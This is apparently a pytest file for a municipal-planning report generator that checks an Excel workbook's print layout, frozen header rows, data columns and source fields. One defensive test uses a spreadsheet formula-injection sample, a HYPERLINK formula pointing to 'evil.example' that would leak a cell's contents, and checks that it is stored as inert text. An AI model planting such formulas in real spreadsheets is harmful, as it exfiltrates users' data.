"""The Excel workbook (report.xlsx), read back with openpyxl as Excel would open and print it:
every sheet on A4 fitted to its width, landscape where its columns are wider than a portrait
page, its header rows repeated on every printed page and frozen on screen, and no column frozen;
the data and evaluation sheets write kinds and horizons in words with their codes in columns of
their own, and 出典 (the figure's real source) apart from its provenance (where machiplan got it).

The plans: Sapporo (the sheet's shape: one block per goal) and Chiba (a plan-level sheet, and
goals both narrower and wider than a portrait page). docs/report.md says how the workbook prints.
"""

from __future__ import annotations

import datetime as dt
from collections import Counter
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.utils import column_index_from_string
from openpyxl.worksheet.worksheet import Worksheet

from machiplan.embedded import DEFAULT_PLAN_DIR
from machiplan.interchange.package import read_package
from machiplan.reports.model import build_report
from machiplan.reports.writer import write_report

REAL = Path(__file__).resolve().parents[1] / "data" / "real"
DAY = dt.date(2026, 11, 30)
PORTRAIT_WIDTH = 100  # Excel's character widths an A4 portrait page holds within the margins
DEFAULT_WIDTH = 8.43


@pytest.fixture(scope="module")
def workbook(tmp_path_factory):
    """A plan's report.xlsx in a language, written once for the module, and its report."""
    made = {}

    def get(name: str, lang: str = "ja"):
        if (name, lang) not in made:
            plan = read_package(DEFAULT_PLAN_DIR if name == "sapporo" else REAL / name)
            report = build_report(plan, lang=lang, today=DAY, charts=False)
            folder = tmp_path_factory.mktemp(f"{name}-{lang}")
            write_report(report, folder, ["xlsx"])
            made[name, lang] = report, load_workbook(folder / "report.xlsx"), folder / "report.xlsx"
        return made[name, lang][:2]

    get.path = lambda name, lang="ja": made[name, lang][2]

    return get


def _width(sheet: Worksheet) -> float:
    """The width of the sheet's used columns, in Excel's character units (unset ones at Excel's default)."""
    widths: dict[int, float] = {}
    for letter, dim in sheet.column_dimensions.items():  # a loaded <col> may span several columns
        first = dim.min or column_index_from_string(letter)
        for col in range(first, (dim.max or first) + 1):
            if dim.width:
                widths[col] = dim.width
    return sum(widths.get(col, DEFAULT_WIDTH) for col in range(1, sheet.max_column + 1))


def _row(sheet: Worksheet, number: int) -> list[object]:
    return [c.value for c in sheet[number]]


@pytest.mark.parametrize(("name", "lang"), [("sapporo", "ja"), ("sapporo", "en"), ("chiba", "ja")])
def test_every_sheet_prints_on_a4_fitted_to_its_width(workbook, name, lang):
    report, book = workbook(name, lang)
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert int(setup.paperSize) == int(Worksheet.PAPERSIZE_A4), sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title  # else fitToWidth is ignored
        assert (int(setup.fitToWidth), int(setup.fitToHeight)) == (1, 0), (
            sheet.title
        )  # one page wide, any tall
        assert report.plan.title in sheet.oddHeader.left.text, sheet.title
        assert sheet.oddHeader.right.text == "&A" and sheet.oddFooter.center.text == "&P / &N"


@pytest.mark.parametrize(("name", "lang"), [("sapporo", "ja"), ("chiba", "ja")])
def test_a_sheet_wider_than_a_portrait_page_prints_landscape(workbook, name, lang):
    _report, book = workbook(name, lang)
    for sheet in book.worksheets:
        wide = _width(sheet) > PORTRAIT_WIDTH
        assert sheet.page_setup.orientation == ("landscape" if wide else "portrait"), (
            sheet.title,
            _width(sheet),
        )
    assert book["データ"].page_setup.orientation == "landscape"


def test_a_narrow_sheet_prints_portrait(workbook):
    _report, book = workbook("chiba")
    orientations = {s.title: s.page_setup.orientation for s in book.worksheets}
    assert orientations["分野3"] == "portrait" and orientations["分野4"] == "landscape"


def _titles(sheet: Worksheet) -> tuple[int, int] | None:
    """The rows printed at the top of every page, from Excel's Print_Titles ('$9:$10')."""
    if not sheet.print_title_rows:
        return None
    first, last = sheet.print_title_rows.replace("$", "").split(":")
    return int(first), int(last)


def _frozen(sheet: Worksheet) -> tuple[int, int] | None:
    """The rows and columns frozen (above and left of the pane's top-left cell), or None."""
    if not sheet.freeze_panes:
        return None
    pane = sheet.sheet_view.pane
    assert pane.state == "frozen", sheet.title
    return int(pane.ySplit or 0), int(pane.xSplit or 0)


@pytest.mark.parametrize(("name", "lang"), [("sapporo", "ja"), ("sapporo", "en"), ("chiba", "ja")])
def test_the_header_rows_repeat_on_every_page_and_only_they_are_frozen(workbook, name, lang):
    _report, book = workbook(name, lang)
    for sheet in book.worksheets:
        titles, frozen = _titles(sheet), _frozen(sheet)
        if frozen is not None:
            rows, columns = frozen
            assert columns == 0, sheet.title  # no column frozen: a row is read across the page
            assert sheet.freeze_panes == f"A{rows + 1}", sheet.title
            assert titles is not None and titles[1] == rows, sheet.title  # frozen down to the printed header
        assert (titles is None) == (frozen is None), sheet.title
        assert sheet.print_title_cols is None, sheet.title


def test_sapporo_s_header_rows(workbook, sapporo):
    report, book = workbook("sapporo")
    summary = book["概要"]
    top = _titles(summary)[0]
    assert _titles(summary) == (top, top) and summary.freeze_panes == f"A{top + 1}"
    header = [report.home_header, "指標コード", "成果指標"]
    assert _row(summary, top)[:3] == header  # the indicator list's header
    assert _row(summary, top + 1)[1] == "1a"  # the first indicator: the first row that scrolls
    for n, goal in enumerate(["基本目標1", "基本目標2", "基本目標3", "基本目標4"], start=1):
        sheet = book[goal]
        first, last = _titles(sheet)
        assert last == first + 1 and sheet.freeze_panes == f"A{last + 1}", goal
        assert _row(sheet, first)[0] == report.t["indicators"]  # the categories, then the names
        names = [v for v in _row(sheet, last)[1:] if v]
        expected = [i.name for i in sapporo.indicators if i.node == str(n)]
        assert [v.split("\n")[0].removeprefix("参考:") for v in names] == expected, goal
        assert str(_row(sheet, last + 1)[0]).startswith("H")  # the first year's row (H25実績 (2013)) scrolls
    for tidy in ("データ", "評価"):
        assert _titles(book[tidy]) == (1, 1) and book[tidy].freeze_panes == "A2"
        assert _row(book[tidy], 1)[0] in ("全国地方公共団体コード", "指標コード")


def test_print_titles_are_excel_s_defined_names(workbook):
    """Excel reads a sheet's print titles from the workbook's _xlnm.Print_Titles, local to that sheet
    (its index among the sheets, in write-only mode too)."""
    import re
    import zipfile

    _report, book = workbook("sapporo")
    with zipfile.ZipFile(workbook.path("sapporo")) as archive:
        xml = archive.read("xl/workbook.xml").decode("utf-8")
    titles = dict(re.findall(r'<definedName name="_xlnm.Print_Titles" localSheetId="(\d+)">([^<]+)<', xml))
    sheets = [s.title for s in book.worksheets]
    assert titles[str(sheets.index("データ"))] in ("'データ'!$1:$1", "データ!$1:$1")
    assert set(titles) == {str(n) for n in range(len(sheets))}  # every sheet of Sapporo's has one


# The data and evaluation sheets' columns, by their header in each language
COLUMNS = {
    "ja": {"data": "データ", "evaluation": "評価", "code": "指標コード", "record": "区分", "kind": "種別",
           "horizon": "目標区分", "fy": "年度", "target_kind": "目標種類", "source": "出典", "kind_code": "種別コード",
           "horizon_code": "目標区分コード", "target_kind_code": "目標種類コード", "provenance": "来歴（取込元・承認）"},
    "en": {"data": "Data", "evaluation": "Evaluation", "code": "Indicator code", "record": "Record", "kind": "Kind",
           "horizon": "Horizon", "fy": "Fiscal year", "target_kind": "Target kind", "source": "Source",
           "kind_code": "Kind code", "horizon_code": "Horizon code", "target_kind_code": "Target kind code",
           "provenance": "Provenance (imported from, approved)"},
}  # fmt: skip
WORDS = {
    "ja": {"actual": "実績", "interim": "状況", "forecast": "見込", "pending": "今後調査", "none": "値なし",
           "plan": "計画目標", "action_plan": "アクションプラン", "vision": "戦略ビジョン", "final": "最終目標"},
    "en": {"actual": "Actual", "interim": "So far", "forecast": "Forecast", "pending": "To be surveyed",
           "none": "No value", "plan": "Plan target", "action_plan": "Action plan", "vision": "Strategic vision",
           "final": "Final target"},
}  # fmt: skip


def _table(sheet: Worksheet, lang: str) -> list[dict[str, object]]:
    """A tidy sheet's rows as dictionaries keyed by COLUMNS' names."""
    heads = _row(sheet, 1)
    names = {header: name for name, header in COLUMNS[lang].items()}
    return [
        {names.get(h, h): v for h, v in zip(heads, row, strict=True)}
        for row in sheet.iter_rows(min_row=2, values_only=True)
    ]


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_kinds_and_horizons_are_in_words_and_their_codes_in_columns_of_their_own(workbook, sapporo, lang):
    _report, book = workbook("sapporo", lang)
    words, columns = WORDS[lang], COLUMNS[lang]
    data = book[columns["data"]]
    heads = _row(data, 1)
    codes = ["kind_code", "horizon_code", "target_kind_code", "provenance"]
    assert heads[-4:] == [columns[c] for c in codes]  # added at the end: a reader by position keeps reading
    rows = _table(data, lang)
    observations = [r for r in rows if r["kind_code"]]
    assert Counter(r["kind_code"] for r in observations) == Counter(
        o.kind for i in sapporo.indicators for o in i.observations
    )
    assert {(r["kind_code"], r["kind"]) for r in observations} == {
        (kind, words[kind]) for kind in ("actual", "interim", "pending", "none")
    }
    targets = [r for r in rows if r["horizon_code"]]
    assert len(targets) == sum(len(i.targets) for i in sapporo.indicators)
    assert {(r["horizon_code"], r["horizon"]) for r in targets} == {
        (h, words[h]) for h in ("plan", "action_plan", "vision")
    }
    assert {(r["target_kind_code"], r["target_kind"]) for r in targets} == {("final", words["final"])}
    evaluation = _table(book[columns["evaluation"]], lang)
    assert _row(book[columns["evaluation"]], 1)[-2:] == [columns["horizon_code"], columns["target_kind_code"]]
    assert {(r["horizon_code"], r["horizon"]) for r in evaluation} == {
        (h, words[h]) for h in ("plan", "action_plan", "vision")
    }
    assert {(r["target_kind_code"], r["target_kind"]) for r in evaluation} == {("final", words["final"])}


def test_the_source_is_the_real_source_and_the_provenance_has_its_own_column(workbook, sapporo):
    _report, book = workbook("sapporo")
    rows = _table(book["データ"], "ja")
    assert not [r for r in rows if r["source"] and ".csv:" in str(r["source"])]  # no file's line is a source
    read_from = {(i.code, o.fy): o.source for i in sapporo.indicators for o in i.observations}
    for r in (r for r in rows if r["kind_code"]):
        assert r["source"] is None  # Sapporo's package names no source for its figures: none is made up
        assert r["provenance"] == read_from[r["code"], r["fy"]]  # observations.csv:2 …
    set_by = {
        "plan": sapporo.title,
        "action_plan": "札幌市まちづくり戦略ビジョン・アクションプラン2015",
        "vision": "札幌市まちづくり戦略ビジョン",
    }
    for r in (r for r in rows if r["horizon_code"]):
        assert r["source"] == set_by[r["horizon_code"]]  # a target's source: the plan that sets it
        assert str(r["provenance"]).startswith("targets.csv:")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_an_editor_s_source_and_the_approval_are_apart_and_never_formulas(sapporo, tmp_path):
    """Staff's published figures carry '出典: 住民基本台帳; machiplan: approved …' (staff/services/
    entries.py): the source named goes to 出典, the approval to the provenance; a source that
    looks like a formula stays text."""
    approved = "machiplan: approved 2026-05-01 (entered via form)"

    def edit(ind):
        if ind.code == "1a":
            first, second, *rest = ind.observations
            observations = (
                replace(first, source=f"出典: 住民基本台帳; {approved}"),
                replace(second, source=approved),  # no source named: the indicator's own
                replace(rest[0], source=f"出典: @SUM(A1); {approved}"),
                *rest[1:],
            )
            return replace(ind, data_source="市民アンケート", observations=observations)
        if ind.code == "1b":
            return replace(ind, data_source=FORMULA)
        return ind

    plan = replace(sapporo, indicators=tuple(edit(i) for i in sapporo.indicators))
    write_report(build_report(plan, today=DAY, charts=False), tmp_path, ["xlsx"])
    book = load_workbook(tmp_path / "report.xlsx")
    sheet = book["データ"]
    heads = _row(sheet, 1)
    source, provenance = heads.index("出典"), heads.index("来歴（取込元・承認）")
    rows = [
        r for r in sheet.iter_rows(min_row=2) if r[4].value == "1a" and r[heads.index("種別コード")].value
    ]
    assert [(r[source].value, r[provenance].value) for r in rows[:4]] == [
        ("住民基本台帳", approved),
        ("市民アンケート", approved),
        ("@SUM(A1)", approved),
        ("市民アンケート", sapporo.indicators[0].observations[3].source),
    ]
    cells = [
        r[source]
        for r in sheet.iter_rows(min_row=2)
        if r[4].value == "1b" and r[heads.index("種別コード")].value
    ]
    assert cells and all(c.value == FORMULA and c.data_type == "s" and c.quotePrefix for c in cells)
    assert rows[2][source].data_type == "s" and rows[2][source].quotePrefix
    for ws in book.worksheets:
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), ws.title
